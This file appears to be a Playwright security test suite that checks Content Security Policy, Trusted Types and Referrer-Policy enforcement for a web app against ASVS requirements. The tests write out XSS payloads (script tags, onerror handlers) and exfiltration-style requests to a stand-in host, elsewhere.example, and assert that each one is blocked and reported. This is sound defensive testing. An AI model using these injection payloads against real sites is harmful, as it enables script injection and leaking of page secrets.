import { changeSettings, eventually, inviteUser } from '@foyer/testkit'
import type { Request } from '@playwright/test'
import { expect, type GatewayUnderTest, loadHome, openSignIn, signIn, test } from '../story.ts'

const BLOCKED = /Content Security [Pp]olicy|requires 'Trusted(HTML|Script|ScriptURL)'/
const PICTURE = '<svg xmlns="http://www.w3.org/2000/svg" width="40" height="20"></svg>'

function policyReports({ logLines }: GatewayUnderTest): string[] {
  return logLines.filter((line) => line.includes('a page violated its policy'))
}

test('ASVS 3.4.3, ASVS 3.4.7 an injected script does not run and is reported to the gateway', async ({
  page,
  gateway,
  expected,
}) => {
  expected.push(BLOCKED)
  const injected =
    '<script>window.gotIn = "by a script"</script><img src="data:," onerror="window.gotIn = \'by a handler\'">' +
    '<script src="https://elsewhere.example/code.js?secret=of-the-page"></script></body>'
  await page.route('/', async (route) => {
    const response = await route.fetch()
    await route.fulfill({ response, body: (await response.text()).replace('</body>', injected) })
  })
  await openSignIn(page)
  const reports = () => policyReports(gateway)
  await eventually('all three are reported', () => reports().length >= 3)
  expect(await page.evaluate(() => 'gotIn' in window)).toBe(false)
  const reported = reports().map((line) => JSON.parse(line) as { directive: string; blocked: string })
  expect(reported.map(({ directive }) => directive).sort()).toEqual([
    'script-src-attr',
    'script-src-elem',
    'script-src-elem',
  ])
  expect(reported.map(({ blocked }) => blocked)).toContain('https://elsewhere.example/code.js')
  expect(reports().join()).not.toContain('of-the-page')
})

test('ASVS 3.4.3 no string becomes a script, and nothing foreign is connected to, once signed in', async ({
  page,
  gateway,
  expected,
}) => {
  expected.push(BLOCKED, /Refused to connect|Fetch API cannot load/)
  await test.step('ASVS 3.4.3 strings never become HTML or scripts, and each violation is reported to the gateway', async () => {
    await signIn(page, 'manager')
    const outcome = await page.evaluate(() => {
      const outcomeOf = (act: () => unknown): string => {
        try {
          act()
          return 'done'
        } catch (error) {
          return (error as Error).name
        }
      }
      const payload = '<img src="data:," onerror="window.gotIn = 1">'
      const script = document.createElement('script')
      const { trustedTypes } = window as unknown as {
        trustedTypes: { createPolicy(name: string, rules: object): void }
      }
      return [
        () => document.body.append(Object.assign(document.createElement('div'), { innerHTML: payload })),
        () => document.body.insertAdjacentHTML('beforeend', payload),
        () => document.write(payload),
        () => document.createRange().createContextualFragment(payload),
        () => Object.assign(document.createElement('iframe'), { srcdoc: payload }),
        () => new DOMParser().parseFromString(payload, 'text/html'),
        () => Object.assign(script, { src: '/base/code.js' }),
        () => Object.assign(script, { textContent: 'window.gotIn = 1' }),
        () => trustedTypes.createPolicy('anything', { createHTML: (text: string) => text }),
        () => trustedTypes.createPolicy('default', { createHTML: (text: string) => text }),
      ].map(outcomeOf)
    })
    expect(outcome).toEqual(Array(10).fill('TypeError'))
    expect(await page.evaluate(() => 'gotIn' in window)).toBe(false)
    const directives = () => policyReports(gateway).map((line) => (JSON.parse(line) as { directive: string }).directive)
    await eventually('every try is reported', () => directives().length >= 10)
    expect([...new Set(directives())].sort()).toEqual(['require-trusted-types-for', 'trusted-types'])
  })
  await test.step('ASVS 3.4.3 neither eval, nor a foreign connection, nor a foreign form, nor a new base gets past the policy', async () => {
    await loadHome(page)
    const outcome = await page.evaluate(async () => {
      const violated = new Set<string>()
      document.addEventListener('securitypolicyviolation', ({ effectiveDirective }) => violated.add(effectiveDirective))
      // At once, the tools of a test would be let through.
      await new Promise((resolve) => setTimeout(resolve))
      const evaluated = (() => {
        try {
          // biome-ignore lint/security/noGlobalEval: that it fails is what is tested.
          return String(globalThis.eval('1 + 1'))
        } catch (error) {
          return (error as Error).name
        }
      })()
      const connected = await fetch('https://elsewhere.example/').then(
        () => 'connected',
        () => 'refused',
      )
      document.head.append(Object.assign(document.createElement('base'), { href: 'https://elsewhere.example/' }))
      const form = Object.assign(document.createElement('form'), {
        action: 'https://elsewhere.example/',
        method: 'post',
      })
      document.body.append(form)
      form.submit()
      while (violated.size < 4) await new Promise((resolve) => setTimeout(resolve, 10))
      const base = new URL(document.baseURI).hostname
      return { evaluated, connected, base, path: location.pathname, violated: [...violated].sort() }
    })
    expect(outcome).toEqual({
      evaluated: 'EvalError',
      connected: 'refused',
      base: '127.0.0.1',
      path: '/home',
      violated: ['base-uri', 'connect-src', 'form-action', 'require-trusted-types-for'],
    })
  })
})

test('ASVS 3.4.3, ASVS 3.4.5 neither a picture nor a link of a page tells another site of it', async ({
  page,
  gateway,
  expected,
}) => {
  expected.push(BLOCKED)
  await test.step('ASVS 3.4.3 a picture of a host that no setting names is not requested', async () => {
    const requested: string[] = []
    await page.context().route('https://*.example/**', async (route) => {
      requested.push(route.request().url())
      await route.fulfill({ contentType: 'image/svg+xml', body: PICTURE })
    })
    await changeSettings(gateway, { loginPageLogo: 'https://cdn.example/logo.svg' })
    await openSignIn(page)
    await expect
      .poll(() => page.getByRole('img', { name: /Logo/ }).evaluate((logo: HTMLImageElement) => logo.naturalWidth))
      .toBeGreaterThan(0)
    await page.evaluate(() => {
      document.body.append(Object.assign(new Image(), { src: 'https://elsewhere.example/?secret=of-the-page' }))
    })
    await eventually('the other picture is reported', () => policyReports(gateway).length === 1)
    expect(requested).toEqual(['https://cdn.example/logo.svg'])
  })
  await test.step('ASVS 3.4.5 the page with the one-time link sends its address to no other site', async () => {
    const { linkToken } = await inviteUser(gateway, { username: 'newcomer' })
    const requests: Request[] = []
    page.on('request', (request) => requests.push(request))
    await page.goto(`/activeUser?from=mail#token=${linkToken}`)
    await page.locator('input[autocomplete="new-password"]').first().waitFor()
    await page.getByRole('contentinfo').getByRole('link').first().click()
    await expect(page).toHaveURL(/\/soc\//)
    await page.reload()
    expect(await page.evaluate(() => document.referrer)).toBe('')
    expect(requests).not.toHaveLength(0)
    for (const request of [...requests]) expect((await request.allHeaders())['referer'] ?? '').toBe('')
    expect(gateway.logLines.join()).not.toContain(linkToken)
  })
})
